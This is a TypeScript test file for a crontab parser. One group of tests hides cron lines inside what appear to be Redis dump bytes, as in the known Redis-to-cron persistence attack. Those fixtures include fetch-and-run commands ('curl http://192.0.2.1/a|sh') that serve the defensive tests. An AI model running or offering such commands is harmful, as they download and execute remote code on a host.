import { describe, expect, test } from 'bun:test';
import { parseCrontab } from './crontab.ts';

const read = (text: string, withUser = false) => parseCrontab(Buffer.from(text, 'latin1'), { withUser });
const first = (text: string, withUser = false) => read(text, withUser).entries[0];

describe('a table of cron', () => {
  test('gives schedule, user and command of a system table', () => {
    expect(first('17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n', true)).toMatchObject({
      line: 1,
      schedule: '17 * * * *',
      user: 'root',
      command: 'cd / && run-parts --report /etc/cron.hourly',
      refused: false,
    });
  });

  test('gives schedule and command of a user, names and steps too', () => {
    expect(first('*/5 1-3,7 * jan-mar mon,Fri /usr/local/bin/backup\n')).toMatchObject({
      schedule: '*/5 1-3,7 * jan-mar mon,Fri',
      command: '/usr/local/bin/backup',
    });
    expect(first('0~59 3 * * * x y')).toMatchObject({ schedule: '0~59 3 * * *', command: 'x y' });
  });

  test('takes @reboot and kin in any case, and a dash that silences the log', () => {
    expect(first('@Reboot /tmp/x\n')).toMatchObject({ schedule: '@Reboot', command: '/tmp/x' });
    expect(first('@every 5m /tmp/x\n')).toMatchObject({ schedule: '@every 5m', command: '/tmp/x' });
    expect(first('-*/15 * * * * root /x\n', true)).toMatchObject({ user: 'root', command: '/x' });
  });

  test('keeps environment lines apart, quoted or not', () => {
    const { variables, entries } = read(
      'SHELL=/bin/sh\nMAILTO = ""\n "LD_PRELOAD"=\'/lib/x.so\'\n* * * * * a\n',
    );
    expect(variables.map(({ line, name, value }) => [line, name, String(value)])).toEqual([
      [1, 'SHELL', '/bin/sh'],
      [2, 'MAILTO', ''],
      [3, 'LD_PRELOAD', '/lib/x.so'],
    ]);
    expect(entries).toHaveLength(1);
  });

  test('ends the command at the first percent sign that is not escaped', () => {
    expect(first('0 5 * * * mail -s "100\\%" a%Hello%there\n')).toMatchObject({
      command: 'mail -s "100%25" a',
      input: 'Hello%0Athere',
    });
  });

  test('reads a command of one word, also without a user where one belongs', () => {
    expect(first('* * * * * /tmp/.x')).toMatchObject({ command: '/tmp/.x' });
    expect(first('* * * * * /tmp/.x', true)).toMatchObject({ user: '', command: '/tmp/.x' });
    expect(first('* * * * * root', true)).toBeUndefined();
  });

  test('reads lines that end with CR LF, and the last one without an end', () => {
    expect(read('* * * * * a\r\n* * * * * b').entries.map(({ command }) => String(command))).toEqual([
      'a',
      'b',
    ]);
  });

  test('passes over comments, blank lines and prose', () => {
    expect(read('# * * * * * x\n\n  \nthis is not a job\n').entries).toEqual([]);
  });
});

describe('a table that a database wrote', () => {
  const dump =
    'REDIS0009\xfa\tredis-ver\x055.0.7\n\xfe\x00\xfb\x01\x00\x00\x02x1@\x40\n\n*/2 * * * * root cd1 -fsSL http://192.0.2.1/a | sh\n\n\xff\xca\xfe';

  test('has its line between bytes that are no text', () => {
    const { entries, noise } = read(dump, true);
    expect(noise).toBe(true);
    expect(entries).toHaveLength(1);
    expect(entries[0]).toMatchObject({
      user: 'root',
      command: 'cd1 -fsSL http://192.0.2.1/a | sh',
      refused: false,
    });
  });

  test('has its line behind such bytes', () => {
    const { entries } = read('REDIS0009\xfa\x00\x01*/2 * * * * curl http://192.0.2.1/a|sh\n');
    expect(entries[0]).toMatchObject({
      schedule: '*/2 * * * *',
      command: 'curl http://192.0.2.1/a|sh',
      refused: true,
    });
  });

  test('has odd bytes within its line', () => {
    expect(first('* * * * * /tmp/\xff\xfe')).toMatchObject({ command: '/tmp/%FF%FE', refused: false });
    expect(first('* * * * * /tmp/a\x00b')).toMatchObject({ command: '/tmp/a%00b', refused: true });
  });
});

describe('a hostile table', () => {
  test('of a million entries is read up to the bound', () => {
    expect(read('* * * * * x\n'.repeat(200_000)).entries).toHaveLength(10_000);
  });

  test('of one line of many megabytes ends', () => {
    expect(read(`* * * * * ${'a '.repeat(4 << 20)}`).entries).toHaveLength(1);
    expect(read('*'.repeat(8 << 20)).entries).toEqual([]);
    expect(read('LWL'.repeat(1 << 20)).entries).toEqual([]);
    expect(read(`${'1 '.repeat(4)}${'abc'.repeat(1 << 20)}`).entries).toEqual([]);
    expect(read('* '.repeat(4 << 20)).entries.length).toBeLessThan(2);
  });
});
